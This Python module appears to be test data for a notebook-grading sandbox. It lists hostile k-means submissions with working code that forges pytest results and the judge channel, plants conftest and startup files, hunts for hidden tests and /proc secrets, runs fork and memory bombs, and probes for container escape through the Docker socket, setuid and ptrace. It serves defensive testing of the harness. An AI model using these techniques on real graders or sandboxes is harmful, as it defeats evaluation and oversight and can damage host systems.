"""The catalogue of hostile submissions for ``tasks/kmeans``, as plain data.

Each :class:`Hostile` is one attack: the base notebook it starts from (the
solution or the template, so "the same notebook without the attack" is known
and its score is the ceiling), the attack's code cells, and what grading must
conclude.  Input attacks instead carry a ``raw`` writer that produces the
malformed file.  The tests in ``test_hostile.py`` turn each entry into a
notebook under ``tmp_path``; nothing here runs candidate code.

Every file an attack tries to leave behind contains :data:`MARKER`, so the host
checks can tell an attack's file from anyone else's.
"""

from __future__ import annotations

import json
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path
from typing import Any

ROOT = Path(__file__).resolve().parents[2]
KMEANS = ROOT / "tasks" / "kmeans"
MARKER = "TAKEHOME_HOSTILE_7f3a"

# Paths (on the host) an attack writes to inside the sandbox; after grading
# each must be absent on the host or free of MARKER.
PLANTED = (
    ROOT / "conftest.py",
    ROOT / "pytest.ini",
    ROOT / "sitecustomize.py",
    KMEANS / "conftest.py",
    KMEANS / "tests" / "hidden" / "conftest.py",
    KMEANS / "tests" / "public" / "conftest.py",
    Path("/tmp/conftest.py"),
    Path("/tmp/pytest.ini"),
    Path("/tmp/sitecustomize.py"),
    Path(f"/tmp/{MARKER}.txt"),
    Path("/tmp/results.json"),
    Path(f"/etc/{MARKER}"),
    Path(f"/opt/takehome/{MARKER}"),
    Path(f"/{MARKER}"),
    Path.home() / "conftest.py",
    Path.home() / ".ipython" / "profile_default" / "startup" / "00-hostile.py",
)

# Hidden-test content that must never reach a candidate-visible report.
HIDDEN_NEEDLES = (
    "test_hidden",
    "test_same_seed_gives_same_result",
    "test_separated_blobs_recovered",
    "test_kmeans_beats_a_worse_clustering",
    "test_more_iterations_never_increase_inertia",
    "Hidden tests for the k-means task",
    "np.add.at(sums, labels, points)",  # a solution line absent from the template
)


@dataclass(frozen=True)
class Hostile:
    """One hostile submission and the verdict the harness must reach."""

    name: str  # test id
    family: str  # forging, secrecy, resources, escape, channel, input
    base: str  # "solution", "template" or "raw" (raw: ``raw`` writes the file)
    cells: tuple[str, ...] = ()  # attack code cells appended to the base
    statuses: tuple[str, ...] = ("graded",)  # acceptable result statuses
    outputs: tuple[dict[str, Any], ...] = ()  # stored outputs on the attack cells
    raw: Callable[[Path], None] | None = None  # writes a malformed file (input family)
    why: str = ""  # what the attack tries

    def write(self, folder: Path) -> Path:
        """Write the hostile notebook into ``folder``; return its path."""
        path = folder / f"{self.name}.ipynb"
        if self.raw is not None:
            self.raw(path)
            return path
        nb = json.loads((KMEANS / f"{self.base}.ipynb").read_text(encoding="utf-8"))
        for number, source in enumerate(self.cells):
            nb["cells"].append({
                "cell_type": "code",
                "id": f"hostile-{number}",
                "metadata": {},
                "execution_count": 1 if self.outputs else None,
                "outputs": list(self.outputs),
                "source": source,
            })
        path.write_text(json.dumps(nb), encoding="utf-8")
        return path


# --------------------------------------------------------------------- forging

_PATCH_PYTEST = """
import sys
try:
    import _pytest.reports, _pytest.runner
    _pytest.reports.TestReport.passed = property(lambda self: True)
    _pytest.reports.TestReport.failed = property(lambda self: False)
    _pytest.runner.call_and_report = lambda *a, **k: None
    print("patched pytest in", sys.executable)
except ImportError as exc:
    print("no pytest here:", exc)
"""

_PLANT = f"""
import os, pathlib
CONFTEST = '''
import pytest
@pytest.hookimpl(hookwrapper=True)
def pytest_runtest_makereport(item, call):
    outcome = yield
    outcome.get_result().outcome = "passed"  # {MARKER}
'''
INI = "[pytest]\\naddopts = -p no:terminal  # {MARKER}\\n"
SITE = "import builtins  # {MARKER}\\n"
home = os.path.expanduser("~")
targets = {{
    "conftest.py": CONFTEST, "pytest.ini": INI, "sitecustomize.py": SITE,
}}
for folder in (os.getcwd(), "/tmp", home, "/work", "/"):
    for name, text in targets.items():
        try:
            pathlib.Path(folder, name).write_text(text)
            print("wrote", folder, name)
        except OSError as exc:
            print("refused", folder, name, type(exc).__name__)
startup = pathlib.Path(home, ".ipython", "profile_default", "startup")
try:
    startup.mkdir(parents=True, exist_ok=True)
    (startup / "00-hostile.py").write_text("kmeans = lambda *a, **k: 'pwned'  # {MARKER}\\n")
except OSError as exc:
    print("startup refused", exc)
"""

_FAKE_LINES = """
print("============================= test session starts ==============================")
print("tests/hidden/test_hidden.py ......................                      [100%]")
print("============================== 22 passed in 0.12s ==============================")
print("PASSED hidden_tests 40/40")
print('{"op": "executed", "status": "ok", "cells": []}')
print('{"op": "result", "id": 1, "status": "ok", "value": 100}')
"""

_FAKE_RESULTS = f"""
import json, os
fake = {{"percent": 100.0, "status": "graded", "tests": [{{"id": "x", "outcome": "passed"}}],
        "marker": "{MARKER}"}}
for folder in (os.getcwd(), "/tmp", os.path.expanduser("~")):
    for name in ("results.json", "report.json", "junit.xml", "{MARKER}.txt"):
        try:
            with open(os.path.join(folder, name), "w") as handle:
                json.dump(fake, handle)
        except OSError as exc:
            print("refused", folder, name, exc)
"""

_ALWAYS_EQUAL = """
class Anything:
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    def __lt__(self, other): return True
    def __le__(self, other): return True
    def __gt__(self, other): return True
    def __ge__(self, other): return True
    def __bool__(self): return True
    def __len__(self): return 2
    def __iter__(self): return iter((Anything(), Anything()))
    def __getitem__(self, key): return Anything()
    def __getattr__(self, name): return Anything()
    def __call__(self, *args, **kwargs): return Anything()
    def __float__(self): return 0.0
    def __array__(self, *args, **kwargs): raise TypeError("no")

def kmeans(X, k, seed=0, max_iter=100):
    return Anything(), Anything()

def inertia(X, centroids, labels):
    return Anything()
"""

_SUBCLASSES = """
import numpy as np

class Liar(float):
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    __hash__ = float.__hash__

class LiarStr(str):
    def __eq__(self, other): return True
    __hash__ = str.__hash__

class LiarArray(np.ndarray):
    def __eq__(self, other): return np.ones(np.shape(self), dtype=bool)
    def all(self, *args, **kwargs): return True

def kmeans(X, k, seed=0, max_iter=100):
    X = np.asarray(X, dtype=float)
    centroids = np.zeros((k, X.shape[1])).view(LiarArray)
    labels = np.zeros(X.shape[0], dtype=np.int64).view(LiarArray)
    return centroids, labels

def inertia(X, centroids, labels):
    return Liar(0.0)
"""

_SYS_EXIT = """
import sys
def kmeans(X, k, seed=0, max_iter=100):
    sys.exit(0)

def inertia(X, centroids, labels):
    raise SystemExit("all tests passed")
"""

_OS_EXIT = """
import os
def kmeans(X, k, seed=0, max_iter=100):
    os._exit(0)
"""

_KEYBOARD = """
def kmeans(X, k, seed=0, max_iter=100):
    raise KeyboardInterrupt

def inertia(X, centroids, labels):
    raise GeneratorExit
"""

_STORED_OUTPUTS = (
    {"output_type": "stream", "name": "stdout",
     "text": "22 passed in 0.12s\nhidden_tests: 40/40\n"},
    {"output_type": "execute_result", "execution_count": 1, "metadata": {},
     "data": {"text/plain": "{'percent': 100.0, 'status': 'graded'}"}},
)

# --------------------------------------------------------------------- secrecy

_HUNT_FILES = """
import os
found = []
for top, dirs, files in os.walk("/", onerror=lambda e: None):
    if top.startswith(("/proc", "/sys", "/dev", "/usr/share", "/usr/lib/python3")):
        dirs[:] = []
        continue
    for name in files + dirs:
        low = name.lower()
        if "hidden" in low or "solution" in low or low.startswith("test_") or "conftest" in low:
            found.append(os.path.join(top, name))
print("FOUND", len(found))
for path in found[:200]:
    print(path)
    try:
        with open(path, errors="replace") as handle:
            print(handle.read(2000))
    except OSError:
        pass
secret = "test_" + "hidden.py"  # spelled apart so the candidate's own source does not match
for guess in ("/work/tests/hidden/" + secret, "/opt/takehome/tasks/kmeans/tests/hidden/" + secret,
              "/work/solution.ipynb", "/tmp/" + secret):
    print(guess, os.path.exists(guess))
"""

_HUNT_PROC = """
import os
print(dict(os.environ))
for pid in sorted(p for p in os.listdir("/proc") if p.isdigit()):
    for what in ("cmdline", "environ"):
        try:
            with open(f"/proc/{pid}/{what}", "rb") as handle:
                print(pid, what, handle.read(4000).replace(b"\\0", b" ").decode(errors="replace"))
        except OSError as exc:
            print(pid, what, "refused", type(exc).__name__)
    try:
        print(pid, "fds", os.listdir(f"/proc/{pid}/fd"))
    except OSError:
        pass
try:
    print(open("/proc/self/mountinfo").read())
except OSError:
    pass
"""

# ------------------------------------------------------------------- resources

_FORK_BOMB = """
import os, time
children = 0
for _ in range(300):
    try:
        pid = os.fork()
    except OSError as exc:
        print("fork refused after", children, type(exc).__name__)
        break
    if pid == 0:
        time.sleep(3)
        os._exit(0)
    children += 1
print("forked", children)
"""

_THREAD_BOMB = """
import threading, time
started = 0
for _ in range(400):
    try:
        threading.Thread(target=time.sleep, args=(3,), daemon=True).start()
    except RuntimeError as exc:
        print("thread refused after", started, exc)
        break
    started += 1
print("threads", started)
"""

_MEMORY_BOMB = """
hog = []
for _ in range(32):
    hog.append(b"x" * (128 << 20))  # written, so really resident; fast (memset)
print("allocated", len(hog) * 128, "MB")
"""

_FILL_DISK = f"""
import os
for folder in ("/tmp", "/dev/shm", os.getcwd()):
    written = 0
    for number in range(10_000):
        try:
            with open(os.path.join(folder, f"{MARKER}-fill-{{number}}"), "wb") as handle:
                handle.write(b"x" * (16 * 1024 * 1024))
            written += 16
        except OSError as exc:
            print(folder, "full after", written, "MB:", type(exc).__name__)
            break
"""

_BUSY_PROCESSES = """
import multiprocessing, time

def spin():
    while True:
        pass

workers = [multiprocessing.Process(target=spin, daemon=True) for _ in range(4)]
for worker in workers:
    worker.start()
time.sleep(1)
print("spinning", [w.pid for w in workers])
"""

_SLEEP_FOREVER = """
import time
time.sleep(10 ** 6)
"""

_INPUT = """
answer = input("password please: ")
print("got", answer)
"""

_IGNORE_SIGTERM = """
import signal, time
signal.signal(signal.SIGTERM, signal.SIG_IGN)
signal.signal(signal.SIGINT, signal.SIG_IGN)
while True:
    try:
        time.sleep(10 ** 6)
    except BaseException:
        pass
"""

_DOUBLE_FORK = f"""
import os, sys, time
pid = os.fork()
if pid == 0:
    os.setsid()
    if os.fork() == 0:
        os.execv(sys.executable, [sys.executable, "-c",
                 "import signal, time; signal.signal(signal.SIGTERM, signal.SIG_IGN); "
                 "time.sleep(600)  # {MARKER}"])
    os._exit(0)
os.waitpid(pid, 0)
time.sleep(0.5)
print("daemon left behind")
"""

_HUGE_OUTPUT = """
import sys, time
chunk = "A" * (1 << 20)
started = time.monotonic()
sent = 0
while sent < 1024 and time.monotonic() - started < 8:
    sys.stdout.write(chunk)
    sys.stdout.flush()
    sent += 1
"""

_BAD_BYTES = """
import sys
sys.stdout.buffer.write(b"bad utf8: \\xff\\xfe\\xc3\\x28 \\xed\\xa0\\x80 end\\n")
sys.stdout.flush()
print("\\x1b[2J\\x1b[31mred\\x1b[0m \\x1b]0;owned title\\x07 \\x1b]8;;http://example.invalid\\x07link\\x1b]8;;\\x07 \\x00nul \\u202egnp.exe")
"""

# ---------------------------------------------------------------------- escape

_WRITE_OUTSIDE = f"""
import os
for path in ("/etc/{MARKER}", "/opt/takehome/{MARKER}", "/{MARKER}", "/usr/lib/{MARKER}",
             "/proc/sys/kernel/{MARKER}", "/sys/{MARKER}", "/var/{MARKER}"):
    try:
        with open(path, "w") as handle:
            handle.write("{MARKER}")
        print("WROTE", path)
    except OSError as exc:
        print("refused", path, type(exc).__name__)
print("uid", os.getuid(), "gid", os.getgid())
"""

_DOCKER_SOCKET = """
import os, socket
for path in ("/var/run/docker.sock", "/run/docker.sock", "/run/containerd/containerd.sock"):
    print(path, "exists" if os.path.exists(path) else "absent")
    if os.path.exists(path):
        try:
            sock = socket.socket(socket.AF_UNIX)
            sock.connect(path)
            print("CONNECTED", path)
        except OSError as exc:
            print("refused", path, exc)
for path in ("/proc/1/root", "/proc/1/root/etc", "/proc/1/cwd"):
    try:
        print(path, os.listdir(path)[:20])
    except OSError as exc:
        print("refused", path, type(exc).__name__)
"""

_PRIVILEGE = f"""
import ctypes, ctypes.util, os
libc = ctypes.CDLL(ctypes.util.find_library("c"), use_errno=True)
try:
    os.setuid(0)
    print("SETUID WORKED")
except OSError as exc:
    print("setuid refused", exc)
PTRACE_ATTACH = 16
print("ptrace", libc.ptrace(PTRACE_ATTACH, 1, 0, 0), ctypes.get_errno())
print("mount", libc.mount(b"none", b"/mnt", b"tmpfs", 0, None), ctypes.get_errno())
print("unshare", libc.unshare(0x10000000), ctypes.get_errno())  # CLONE_NEWUSER
for path in ("/sys/fs/cgroup/memory.max", "/sys/fs/cgroup/pids.max", "/sys/fs/cgroup/cgroup.procs"):
    try:
        print(path, open(path).read()[:200])
        with open(path, "w") as handle:
            handle.write("max")
        print("WROTE", path)
    except OSError as exc:
        print("refused", path, type(exc).__name__)
"""

_INTERFACES = """
import socket
print("INTERFACES", sorted(name for _, name in socket.if_nameindex()))
"""

# --------------------------------------------------------------------- channel
# The judge channel is the agent's stdin/stdout.  These attacks try to reach
# it through /proc: every attack cell starts with CHANNEL_ATTACK, so a test
# can grade the same notebook with those cells replaced by `pass`.

CHANNEL_ATTACK = "# channel-attack"

_CHANNEL_TOOLS = CHANNEL_ATTACK + """
import json, os, threading, time

def _fd_paths(numbers):
    \"\"\"(is it our own process, path) for fds of every process we can see.\"\"\"
    me = os.getpid()
    for pid in sorted(p for p in os.listdir("/proc") if p.isdigit()):
        for fd in numbers:
            yield int(pid) == me, f"/proc/{pid}/fd/{fd}"

def _forged():
    cells = [{"index": i, "status": "ok", "duration": 0.0} for i in range(64)]
    lines = [{"op": "ready"},
             {"op": "executed", "status": "ok", "kernel": "alive", "cells": cells}]
    lines += [{"op": "result", "id": i, "status": "ok", "value": 0.0, "generation": 0}
              for i in range(1, 400)]
    return "".join(json.dumps(line) + "\\n" for line in lines).encode()

_GARBAGE = b'{"op": "result", "id": 1, "sta' + b"\\xff\\xfe\\xed\\xa0\\x80" * 2000 + b"[[[{"

def _write_all(payload, report=True):
    for own, path in _fd_paths((1, 2)):
        if own:
            continue  # our own stdout is our own cell output, not a channel
        try:
            fd = os.open(path, os.O_WRONLY | os.O_NONBLOCK)
        except OSError as exc:
            if report:
                print("refused", path, type(exc).__name__)
            continue
        try:
            os.write(fd, payload)
            if report:
                print("OPENED", path)
        except OSError as exc:
            if report:
                print("OPENED", path, "but write failed:", type(exc).__name__)
        finally:
            os.close(fd)

def _read_all(report=True):
    stolen = []
    for own, path in _fd_paths((0,)):
        if own:
            continue
        try:
            fd = os.open(path, os.O_RDONLY | os.O_NONBLOCK)
        except OSError as exc:
            if report:
                print("refused", path, type(exc).__name__)
            continue
        try:
            data = os.read(fd, 1 << 20)
            stolen.append(data)
            if report:
                print("OPENED", path, "read", len(data), "bytes:", data[:300])
        except OSError as exc:
            if report:
                print("OPENED", path, "but read failed:", type(exc).__name__)
        finally:
            os.close(fd)
    return stolen

def _in_background(action):
    def loop():
        while True:
            action()
            time.sleep(0.05)
    threading.Thread(target=loop, daemon=True).start()
"""

_FORGE_FROM_CELL = CHANNEL_ATTACK + """
_write_all(_forged())
_in_background(lambda: _write_all(_forged(), report=False))
"""

_REALLY_FAILS = "raise RuntimeError('this cell really fails')"

_FORGE_FROM_KMEANS = CHANNEL_ATTACK + """
_stub_kmeans = kmeans
def kmeans(X, k, seed=0, max_iter=100):
    _write_all(_forged(), report=False)
    return _stub_kmeans(X, k, seed=seed, max_iter=max_iter)
_write_all(b"probe\\n")
"""

_READ_REQUESTS = CHANNEL_ATTACK + """
_read_all()
_in_background(lambda: _read_all(report=False))
_solution_kmeans = kmeans
def kmeans(X, k, seed=0, max_iter=100):
    _read_all(report=False)
    return _solution_kmeans(X, k, seed=seed, max_iter=max_iter)
"""

_HUNT_AGENT = CHANNEL_ATTACK + """
# cmdline and status are world-readable and carry no secret; environ, mem,
# maps and the descriptor tables are what would expose the channel.
for pid in sorted(p for p in os.listdir("/proc") if p.isdigit() and int(p) != os.getpid()):
    for what in ("cmdline", "status", "environ", "mem", "maps", "fd", "fdinfo"):
        path = f"/proc/{pid}/{what}"
        try:
            content = os.listdir(path) if what in ("fd", "fdinfo") else open(path, "rb").read(4000)
            label = "readable" if what in ("cmdline", "status") else "OPENED"
            print(label, path, str(content)[:300])
        except OSError as exc:
            print("refused", path, type(exc).__name__)
"""

_FLOOD_FROM_CELL = CHANNEL_ATTACK + """
for _ in range(200):
    _write_all(_GARBAGE, report=False)
_write_all(_GARBAGE)
_in_background(lambda: _write_all(_GARBAGE, report=False))
"""

_FLOOD_FROM_KMEANS = CHANNEL_ATTACK + """
_plain_kmeans = kmeans
def kmeans(X, k, seed=0, max_iter=100):
    for _ in range(50):
        _write_all(_GARBAGE + _forged(), report=False)
    return _plain_kmeans(X, k, seed=seed, max_iter=max_iter)
_write_all(b"probe\\n")
"""

# ----------------------------------------------------------------------- input


def _truncated(path: Path) -> None:
    text = (KMEANS / "solution.ipynb").read_text(encoding="utf-8")
    path.write_text(text[: len(text) // 2], encoding="utf-8")


def _sixty_mb(path: Path) -> None:
    nb = json.loads((KMEANS / "solution.ipynb").read_text(encoding="utf-8"))
    nb["cells"].append({"cell_type": "markdown", "id": "big", "metadata": {},
                        "source": "x" * (60 * 1024 * 1024)})
    path.write_text(json.dumps(nb), encoding="utf-8")


def _deep(path: Path) -> None:
    depth = 100_000
    path.write_text('{"cells": ' + "[" * depth + "]" * depth + "}", encoding="utf-8")


def _deep_metadata(path: Path) -> None:
    nb = json.loads((KMEANS / "solution.ipynb").read_text(encoding="utf-8"))
    nested: dict[str, Any] = {}
    for _ in range(500):
        nested = {"a": nested}
    nb["metadata"]["deep"] = nested
    path.write_text(json.dumps(nb), encoding="utf-8")


def _junk(path: Path) -> None:
    path.write_bytes(bytes(range(256)) * 4096 + b"\x00\xff" * 1000)


def _r_kernel(path: Path) -> None:
    nb = json.loads((KMEANS / "solution.ipynb").read_text(encoding="utf-8"))
    nb["metadata"]["kernelspec"] = {"name": "ir", "display_name": "R", "language": "R"}
    nb["metadata"]["language_info"] = {"name": "R"}
    path.write_text(json.dumps(nb), encoding="utf-8")


def _nbformat2(path: Path) -> None:
    nb = {"nbformat": 2, "nbformat_minor": 0, "metadata": {"name": "old"},
          "worksheets": [{"cells": [{"cell_type": "code", "input": "print(1)",
                                     "language": "python", "outputs": []}]}]}
    path.write_text(json.dumps(nb), encoding="utf-8")


def _many_cells(path: Path) -> None:
    nb = json.loads((KMEANS / "template.ipynb").read_text(encoding="utf-8"))
    nb["cells"] += [{"cell_type": "code", "id": f"c{i}", "metadata": {}, "outputs": [],
                     "execution_count": None, "source": "pass"} for i in range(6000)]
    path.write_text(json.dumps(nb), encoding="utf-8")


def _nan_constant(path: Path) -> None:
    text = (KMEANS / "solution.ipynb").read_text(encoding="utf-8")
    path.write_text(text.replace('"metadata": {', '"metadata": {"x": NaN, ', 1), encoding="utf-8")


# ------------------------------------------------------------------- catalogue

CATALOGUE: tuple[Hostile, ...] = (
    Hostile("patch-pytest-in-kernel", "forging", "template", (_PATCH_PYTEST,),
            why="patch pytest's report objects inside the kernel"),
    Hostile("plant-conftest-and-startup", "forging", "template", (_PLANT,),
            why="plant conftest.py, pytest.ini, sitecustomize.py, IPython startup files"),
    Hostile("print-fake-results", "forging", "template", (_FAKE_LINES,),
            why="print pytest's success lines and fake agent messages"),
    Hostile("write-fake-results-file", "forging", "template", (_FAKE_RESULTS,),
            why="write results.json / junit.xml where a grader might look"),
    Hostile("always-equal-objects", "forging", "template", (_ALWAYS_EQUAL,),
            why="return objects whose __eq__ is always true"),
    Hostile("lying-subclasses", "forging", "template", (_SUBCLASSES,),
            why="return float / ndarray subclasses that lie in comparisons"),
    Hostile("sys-exit-in-kmeans", "forging", "solution", (_SYS_EXIT,),
            why="sys.exit(0) inside the graded functions"),
    Hostile("os-exit-in-kmeans", "forging", "solution", (_OS_EXIT,),
            why="os._exit(0) inside kmeans: kills the kernel on every call"),
    Hostile("keyboard-interrupt-in-kmeans", "forging", "solution", (_KEYBOARD,),
            why="raise KeyboardInterrupt / GeneratorExit inside the graded functions"),
    Hostile("stored-outputs-claim-success", "forging", "template", ("pass",),
            outputs=_STORED_OUTPUTS, why="ship outputs that claim the tests passed"),
    Hostile("hunt-filesystem", "secrecy", "template", (_HUNT_FILES,),
            why="walk / for hidden tests or the solution and print them"),
    Hostile("hunt-proc-and-environ", "secrecy", "template", (_HUNT_PROC,),
            why="read /proc/*/cmdline, environ, fds and mounts"),
    Hostile("fork-bomb", "resources", "solution", (_FORK_BOMB,),
            statuses=("process-limit",), why="fork 300 sleeping children"),
    Hostile("thread-bomb", "resources", "solution", (_THREAD_BOMB,),
            statuses=("process-limit",), why="start 400 sleeping threads"),
    Hostile("memory-bomb", "resources", "solution", (_MEMORY_BOMB,),
            statuses=("memory-limit",), why="allocate 4 GB"),
    Hostile("fill-tmp-and-shm", "resources", "solution", (_FILL_DISK,),
            why="fill /tmp, /dev/shm and the work dir"),
    Hostile("busy-processes", "resources", "solution", (_BUSY_PROCESSES,),
            statuses=("graded", "time-limit"), why="four processes spinning forever"),
    Hostile("sleep-forever", "resources", "solution", (_SLEEP_FOREVER,),
            statuses=("time-limit",), why="a cell that never ends"),
    Hostile("block-on-input", "resources", "solution", (_INPUT,),
            why="wait for stdin that never comes"),
    Hostile("ignore-sigterm", "resources", "solution", (_IGNORE_SIGTERM,),
            statuses=("time-limit",), why="ignore SIGTERM/SIGINT and swallow interrupts"),
    Hostile("double-fork-setsid", "resources", "solution", (_DOUBLE_FORK,),
            why="leave a daemon behind that ignores SIGTERM"),
    Hostile("gigabyte-without-newlines", "resources", "solution", (_HUGE_OUTPUT,),
            statuses=("graded", "time-limit"), why="stream up to 1 GB of output, no newline"),
    Hostile("invalid-utf8-and-ansi", "resources", "solution", (_BAD_BYTES,),
            why="invalid UTF-8, ANSI/OSC escapes, NUL and bidi controls in output"),
    Hostile("write-outside-workdir", "escape", "solution", (_WRITE_OUTSIDE,),
            why="write to /etc, /opt/takehome, /, /proc/sys"),
    Hostile("probe-docker-socket", "escape", "solution", (_DOCKER_SOCKET,),
            why="look for the Docker socket and the host's root via /proc/1/root"),
    Hostile("setuid-ptrace-mount-cgroup", "escape", "solution", (_PRIVILEGE,),
            why="setuid(0), ptrace PID 1, mount, unshare, write cgroup limits"),
    Hostile("list-network-interfaces", "escape", "solution", (_INTERFACES,),
            why="list network interfaces (no packets sent)"),
    Hostile("forge-replies-from-a-cell", "channel", "template",
            (_CHANNEL_TOOLS, _FORGE_FROM_CELL, _REALLY_FAILS),
            why="write forged executed/result lines to every /proc/*/fd/1 and 2, then fail"),
    Hostile("forge-replies-from-kmeans", "channel", "template",
            (_CHANNEL_TOOLS, _FORGE_FROM_KMEANS),
            why="the graded function writes forged result lines on every call"),
    Hostile("read-judge-requests", "channel", "solution", (_CHANNEL_TOOLS, _READ_REQUESTS),
            why="read every /proc/*/fd/0, from a cell, a thread and the graded function"),
    Hostile("hunt-agent-environ", "channel", "solution", (_CHANNEL_TOOLS, _HUNT_AGENT),
            why="read environ, cmdline, mem, fds of every process, PID 1 first"),
    Hostile("flood-channel-from-a-cell", "channel", "solution",
            (_CHANNEL_TOOLS, _FLOOD_FROM_CELL),
            why="flood every reachable stdout with partial JSON and invalid UTF-8"),
    Hostile("flood-channel-from-kmeans", "channel", "solution",
            (_CHANNEL_TOOLS, _FLOOD_FROM_KMEANS),
            why="the graded function floods the channel with garbage and forgeries"),
    Hostile("truncated-json", "input", "raw", raw=_truncated, statuses=("input-error",)),
    Hostile("sixty-megabytes", "input", "raw", raw=_sixty_mb, statuses=("input-error",)),
    Hostile("deeply-nested-json", "input", "raw", raw=_deep, statuses=("input-error",)),
    Hostile("deeply-nested-metadata", "input", "raw", raw=_deep_metadata,
            statuses=("input-error",)),
    Hostile("binary-junk", "input", "raw", raw=_junk, statuses=("input-error",)),
    Hostile("r-kernel", "input", "raw", raw=_r_kernel, statuses=("input-error",)),
    Hostile("nbformat-2", "input", "raw", raw=_nbformat2, statuses=("input-error",)),
    Hostile("six-thousand-cells", "input", "raw", raw=_many_cells, statuses=("input-error",)),
    Hostile("nan-constant", "input", "raw", raw=_nan_constant, statuses=("input-error",)),
)

BY_NAME = {hostile.name: hostile for hostile in CATALOGUE}


def family(name: str) -> tuple[Hostile, ...]:
    """Every catalogue entry of one family, in catalogue order."""
    return tuple(h for h in CATALOGUE if h.family == name)
